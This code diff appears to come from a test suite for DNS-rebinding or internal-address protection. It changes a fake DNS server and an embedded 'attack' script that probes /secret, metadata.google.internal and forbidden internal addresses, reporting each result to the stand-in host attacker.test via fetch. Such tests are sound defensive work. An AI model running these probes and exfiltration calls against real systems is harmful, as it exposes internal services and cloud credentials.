@@ -55,11 +55,12 @@ const dns = dns2.createServer({
     const response = dns2.Packet.createResponseFromRequest(request);
     for (const { name, type } of request.questions) {
       if (type !== dns2.Packet.TYPE.A) continue;
-      for (const address of addressesOf(name)) {
-        const { A } = dns2.Packet.TYPE;
-        const { IN } = dns2.Packet.CLASS;
-        response.answers.push({ name, type: A, class: IN, ttl: 0, address });
-      }
+      const { A } = dns2.Packet.TYPE;
+      const { IN } = dns2.Packet.CLASS;
+      for (const address of addressesOf(name))
+        response.answers.push(
+          dns2.Packet.Resource.A({ name, type: A, class: IN, ttl: 0, address }),
+        );
     }
     send(response);
   },
@@ -88,8 +89,8 @@ const inside = [...forbidden, ...forbidden6.map((address) => `[${address}]`)];
 
 /** Asks for a place again and again, as the attack needs, and says what came of it. */
 const attack = `const say = (text) => fetch('http://attacker.test/say/' + encodeURIComponent(text), { mode: 'no-cors' }).catch(() => 0);
-  const look = (url) => fetch(url).then(async (r) => say(((await r.text()).includes('secret') ? 'reached ' : 'refused ') + url), () => say('refused ' + url));
-  for (let again = 0; again < 4; again += 1) await look('/secret?' + again);
+  const look = (url) => fetch(url).then(async (r) => say(((await r.text()) === 'secret' ? 'reached ' : 'refused ') + url), () => say('refused ' + url));
+  for (let again = 0; again < 4; again += 1) await look(location.origin + '/secret?' + again);
   for (const name of ['by-turns.test', 'both.test', 'inside.test', 'metadata.google.internal'])
     for (let again = 0; again < 3; again += 1) await look('http://' + name + '/?' + again);
   for (const place of ${JSON.stringify(inside)}) {
